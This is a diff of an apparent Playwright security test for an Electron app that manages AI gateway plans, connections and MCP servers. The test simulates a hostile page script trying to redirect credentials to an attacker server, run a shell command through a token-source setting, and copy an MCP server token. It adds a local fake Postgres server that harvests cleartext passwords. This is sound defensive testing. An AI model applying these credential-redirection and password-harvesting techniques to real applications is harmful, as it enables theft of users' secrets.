@@ -1,26 +1,22 @@
 import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
+import { type AddressInfo, createServer as createSocketServer } from 'node:net'
 import { join } from 'node:path'
 import { unescape as percentDecoded } from 'node:querystring'
 import type { ElectronApplication, Page } from '@playwright/test'
-import { addressKeys, ConnectionPart, type ConnectionView, type MethodName, type PlanView } from '@shared/contract'
+import type { McpToolView } from '@shared/contract'
 import { expect, type Machine, type RunningApp } from './app'
 import { addPlan, keyIn } from './cli-desk'
 import { companion } from './companion'
 import { type HostileCall, HostileCalls, seeded, type Wanted } from './hostile-calls'
-import { startSandbox, type TestSandbox } from './sandbox'
+import { type Answer, type Attempt, knownWays, ownSecret } from './page-attack-ways'
+import { startSandbox } from './sandbox'
 
-/** What the attacker puts on the clipboard in the place of a secret. */
-const ownSecret = 'the-attackers-own-0123456789'
 const privateText = 'private-text-of-a-person'
+/** A value in the settings of one coding tool. */
+const serverValue = 'value-of-an-mcp-server-0123456789'
 /** So many calls of the page run beside each other. */
 const atOnce = 8
-
-interface Answer {
-  readonly ok: boolean
-  readonly value?: unknown
-}
 
 /** A script in the page of the running app, and what it may ask. */
 interface Script {
@@ -57,6 +53,27 @@ async function startForeignServer() {
     server.close()
   }
   return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, received, stop }
+}
+
+/** A database of the attacker, which asks everybody for the password as it is and tells who came. */
+async function startForeignDatabase() {
+  const passwords: string[] = []
+  let asked = 0
+  const server = createSocketServer((socket) => {
+    asked += 1
+    socket.on('error', () => undefined)
+    socket.once('data', () => {
+      socket.once('data', (message) => {
+        passwords.push(message.toString('latin1'))
+        socket.destroy()
+      })
+      // AuthenticationCleartextPassword
+      socket.write(Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3]))
+    })
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const url = `postgres://attacker@127.0.0.1:${(server.address() as AddressInfo).port}/theirs`
+  return { url, passwords, asked: () => asked, stop: () => void server.close() }
 }
 
 /** Client id and secret of Basic credentials as they are, each of which is percent-encoded in there. */
@@ -125,15 +142,19 @@ async function prepare(machine: Machine) {
   mkdirSync(join(outside, 'project'), { recursive: true })
   writeFileSync(join(outside, 'private.txt'), privateText)
   const foreign = await startForeignServer()
+  const database = await startForeignDatabase()
+  const lab = { command: '/opt/lab/server', args: [], env: { LAB_TOKEN: serverValue } }
+  writeFileSync(join(machine.home, '.claude.json'), JSON.stringify({ mcpServers: { lab } }))
   const canary = join(machine.home, '..', 'canary')
   const wanted: Wanted = {
     serverUrl: foreign.url,
+    databaseUrl: database.url,
     command: ['/bin/sh', '-c', `echo ran > '${canary}'`],
     file: join(outside, 'private.txt'),
     folder: join(outside, 'project'),
   }
   const secrets: Readonly<Record<string, string>> = { 'plan key': key, 'client secret': clientSecret.expose() }
-  return { sandbox, secrets, outside, foreign, canary, wanted }
+  return { sandbox, secrets, outside, foreign, database, canary, wanted }
 }
 
 /** What an attack came to. */
@@ -147,6 +168,8 @@ interface Achieved {
   readonly opened: readonly string[]
   readonly files: readonly string[]
   readonly toldPrivateText: boolean
+  /** What serves the attacker from now on. */
+  readonly inUse: readonly string[]
 }
 
 export const nothingAchieved: Achieved = {
@@ -157,6 +180,7 @@ export const nothingAchieved: Achieved = {
   opened: [],
   files: [],
   toldPrivateText: false,
+  inUse: [],
 }
 
 interface AttackOptions {
@@ -175,7 +199,7 @@ export async function attackFromPage(
   start: () => Promise<RunningApp>,
   { rounds, seed, isAgreeing = false }: AttackOptions,
 ): Promise<{ readonly achieved: Achieved; readonly questions: number }> {
-  const { sandbox, secrets, outside, foreign, canary, wanted } = await prepare(machine)
+  const { sandbox, secrets, outside, foreign, database, canary, wanted } = await prepare(machine)
   const before = contentsOf(outside)
   const { app, page } = await start()
   const seen = await guardSystem(app, { folder: outside, isAgreeing })
@@ -192,14 +216,14 @@ export async function attackFromPage(
     return answers
   }
   const call: Attempt['call'] = async (name, input = {}) => (await callAll([{ name, input }]))[0] ?? { ok: false }
-  await knownWays({ call, wanted, sandbox })
+  await knownWays({ call, wanted })
   for (let round = 0; round < rounds; round += 1) {
     await call('app.copyText', { text: ownSecret })
     const calls = hostile.round()
     for (let at = 0; at < calls.length; at += atOnce) await callAll(calls.slice(at, at + atOnce))
   }
   const { questions, opened, files } = await seen()
-  const arrived = foreign.received.join('\n')
+  const arrived = [...foreign.received, ...database.passwords].join('\n')
   const achieved = {
     programRan: existsSync(canary),
     credentials: credentialsIn(foreign.received, copied),
@@ -207,11 +231,27 @@ export async function attackFromPage(
     changedOutside: JSON.stringify(contentsOf(outside)) !== JSON.stringify(before),
     ...{ opened, files },
     toldPrivateText: JSON.stringify(told).includes(privateText),
+    inUse: [
+      ...(database.asked() > 0 ? ['database'] : []),
+      ...(JSON.stringify(await script.call('metrics.get', {})).includes(foreign.url) ? ['collector'] : []),
+      ...(await permissionsGiven(script)),
+      ...(hasServerValue(join(machine.home, '.cursor', 'mcp.json')) ? ['copied server'] : []),
+    ],
   }
   foreign.stop()
+  database.stop()
   await sandbox.stop()
   return { achieved, questions }
 }
+
+/** What the MCP server may do for coding tools beside reading. */
+async function permissionsGiven({ call }: Script): Promise<string[]> {
+  const { value } = await call('mcp.tools', {})
+  const tools = Array.isArray(value) ? value : []
+  return [...new Set(tools.flatMap(({ permissions }: McpToolView) => permissions))]
+}
+
+const hasServerValue = (path: string): boolean => existsSync(path) && readFileSync(path, 'utf8').includes(serverValue)
 
 /** The credentials in requests that are none of the attacker's own. */
 const credentialsIn = (requests: readonly string[], own: ReadonlySet<unknown>): string[] =>
@@ -220,131 +260,3 @@ const credentialsIn = (requests: readonly string[], own: ReadonlySet<unknown>): 
       ([, credential = '']) => (own.has(credential) ? [] : [`${request.split('\n')[0]}: ${credential}`]),
     ),
   )
-
-interface Attempt {
-  readonly call: (name: MethodName, input?: unknown) => Promise<Answer>
-  readonly wanted: Wanted
-  readonly sandbox: TestSandbox
-}
-
-/** The ways that somebody would think of. */
-async function knownWays(attempt: Attempt): Promise<void> {
-  await redirectPlans(attempt)
-  const evilId = await foreignConnection(attempt)
-  await redirectConnections(attempt)
-  await carryHeldSecret(attempt, evilId)
-  await runProgram(attempt)
-  const { call, wanted } = attempt
-  await call('connections.save', { name: 'reads-a-file', addresses: {}, caFile: wanted.file })
-  await call('app.openLink', { url: `${wanted.serverUrl}/?out` })
-  const [plan] = await listed<PlanView>(call, 'plans.list')
-  const choice = { toolId: 'claude-code', planId: plan?.id ?? '', modelCode: 'aurora-large' }
-  const site = { kind: 'project', folder: wanted.folder }
-  await call('tools.preview', { ...choice, site })
-  await call('tools.drift', { toolId: 'claude-code', site })
-  await call('doctor.run', { toolId: 'claude-code', site, callId: 'doctor' })
-}
-
-async function listed<T>(call: Attempt['call'], name: MethodName): Promise<T[]> {
-  const { value } = await call(name)
-  return Array.isArray(value) ? value : []
-}
-
-/** Another gateway for each plan; and its key by the clipboard. */
-async function redirectPlans({ call, wanted }: Attempt): Promise<void> {
-  const gatewayUrl = wanted.serverUrl
-  for (const { id: planId, name, models, keys } of await listed<PlanView>(call, 'plans.list')) {
-    await call('plans.update', { planId, name, gatewayUrl, models })
-    await call('plans.check', { planId })
-    for (const { id: keyId } of keys) {
-      await call('plans.copyKey', { planId, keyId })
-      for (const take of [
-        'plans.takeKeyFromClipboard',
-        'connections.takeSecretFromClipboard',
-        'resources.takeSecret',
-      ] as const) {
-        const pendingId = pendingIn(await call(take))
-        await call('plans.checkNew', { gatewayUrl, pendingId })
-        const added = await call('plans.add', { name: `copy-${take.length}`, gatewayUrl, models: [], pendingId })
-        await call('plans.check', { planId: idIn(added) })
-      }
-    }
-  }
-}
-
-const fieldOf = (answer: Answer, name: string): string => {
-  const { value } = answer
-  return typeof value === 'object' && value !== null ? String(Reflect.get(value, name) ?? 'none') : 'none'
-}
-const pendingIn = (answer: Answer): string => fieldOf(answer, 'pendingId')
-const idIn = (answer: Answer): string => fieldOf(answer, 'id')
-
-const everyAddress = (url: string): Record<string, string> =>
-  Object.fromEntries(addressKeys.map((key) => [key, key === 'registryHost' ? new URL(url).host : url]))
-
-/** A connection of the attacker's own: their addresses and their secret. */
-async function foreignConnection({ call, wanted }: Attempt): Promise<string> {
-  await call('app.copyText', { text: ownSecret })
-  const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
-  const addresses = everyAddress(wanted.serverUrl)
-  const saved = await call('connections.save', {
-    name: 'theirs',
-    addresses,
-    tokenSource: { kind: 'pasted' },
-    pendingId,
-  })
-  const connection: unknown = Reflect.get(Object(saved.value), 'connection')
-  return String(Reflect.get(Object(connection), 'id'))
-}
-
-/** Other addresses for each connection, with its secret, with another, and with another token server. */
-async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
-  const addresses = everyAddress(wanted.serverUrl)
-  for (const { id, name, tokenSource } of await listed<ConnectionView>(call, 'connections.list')) {
-    if (name === 'theirs') continue
-    await call('app.copyText', { text: ownSecret })
-    const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', {}))
-    const moved =
-      tokenSource?.kind === 'client-credentials' ? { ...tokenSource, tokenUrl: wanted.serverUrl } : tokenSource
-    const changes = [
-      { addresses, tokenSource },
-      { addresses, tokenSource: moved },
-      { addresses, tokenSource, pendingId },
-    ]
-    for (const change of changes) {
-      await call('connections.save', { id, name, ...change })
-      for (const part of ConnectionPart.options) await call('connections.test', { id, part, callId: `${id}-${part}` })
-      await call('account.plans', { connectionId: id })
-    }
-  }
-}
-
-/** A secret of an answer, carried to the attacker's own connection. */
-async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise<void> {
-  const lab = (await listed<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
-  const operation = 'aip.apiKeys.create'
-  const made = await call('resources.call', { connectionId: lab?.id ?? '', operation, body: { name: 'stolen' } })
-  const secrets: unknown = Reflect.get(Object(made.value), 'secrets')
-  const [held]: unknown[] = Array.isArray(secrets) ? secrets : []
-  const handle = String(Reflect.get(Object(held), 'handle'))
-  await call('resources.call', { connectionId, operation, body: { name: { $held: handle } } })
-  await call('resources.useForInference', { connectionId, of: { handle } })
-  await call('resources.keepSecret', { handle, connectionId, kind: 'platformApiKey', name: 'carried' })
-  await call('resources.copySecret', { handle })
-  const pendingId = pendingIn(await call('resources.takeSecret'))
-  await call('resources.call', { connectionId, operation, body: { name: { $pending: pendingId } } })
-  await call('playground.keepApiKey', { connectionId, pendingId })
-  const target = { kind: 'platform', connectionId, credential: 'apiKey', modelCode: 'm' }
-  await call('playground.complete', { target, prompt: 'hello', parameters: {} })
-}
-
-/** A program for the tokens of a connection. */
-async function runProgram({ call, wanted }: Attempt): Promise<void> {
-  const tokenSource = { kind: 'command', command: wanted.command }
-  const addresses = everyAddress(wanted.serverUrl)
-  await call('connections.save', { name: 'runs', addresses, tokenSource })
-  for (const { id } of await listed<ConnectionView>(call, 'connections.list')) {
-    await call('connections.save', { id, name: `runs-${id.slice(0, 8)}`, addresses, tokenSource })
-    await call('connections.test', { id, part: 'token', callId: `run-${id}` })
-  }
-}
